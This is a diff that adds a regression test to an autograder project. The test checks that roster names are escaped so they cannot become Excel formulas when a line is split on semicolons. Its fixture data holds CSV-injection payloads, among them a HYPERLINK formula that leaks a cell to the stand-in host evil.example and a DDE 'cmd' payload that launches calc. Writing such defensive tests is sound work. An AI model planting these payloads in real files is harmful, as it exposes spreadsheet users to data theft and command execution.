@@ -50,6 +50,31 @@ def test_a_refusal_names_its_own_reason(raw, why):
     assert str(err.value) == why
 
 
+def test_a_roster_name_cannot_become_a_formula_where_excel_splits_on_semicolons(course, tmp_path):
+    """roster.csv kept ``Smith;=HYPERLINK(...)`` as it was: Excel where the list separator is ';'
+    (most of Europe) splits the line there, and the part after it is a cell of its own, a formula
+    (quoting does not help: the quote is not at the start of that ';' field)."""
+    import csv
+
+    from autograder.names import csv_cell, csv_uncell
+    from autograder.roster import import_roster, load_saved
+
+    evil = ['Smith;=HYPERLINK("http://evil.example/?"&A1,"open")', 'Lee; "+cmd|\' /C calc\'!A0', "Kim;@SUM(1)",
+            "Ng;;-2+3", "O;'=1", "plain;text", "Park; -"]
+    src = tmp_path / "participants.csv"
+    with open(src, "w", newline="") as fh:
+        csv.writer(fh).writerows([["Username", "First name", "Last name"]]
+                                 + [[f"s{i}", "X", name] for i, name in enumerate(evil)])
+    import_roster(course, src)
+    for line in (course.workdir / "roster.csv").read_text().splitlines():
+        for delimiter in (",", ";"):                       # as each locale's Excel splits it
+            for cell in next(csv.reader([line], delimiter=delimiter)):
+                assert not cell.lstrip(" \"").startswith(("=", "+", "-", "@")) or cell.lstrip(" \"") == "-", line
+    assert {s.last_name for s in load_saved(course)} == set(evil)              # read back as they were
+    assert [csv_uncell(csv_cell(v)) for v in evil] == evil
+    assert csv_cell("plain;text") == "plain;text" and csv_cell("Smith;=1") == "Smith;'=1"
+
+
 # ------------------------------------------------------------------------------------ the exchange
 
 NOW = dt.datetime.now(UTC).replace(microsecond=0)
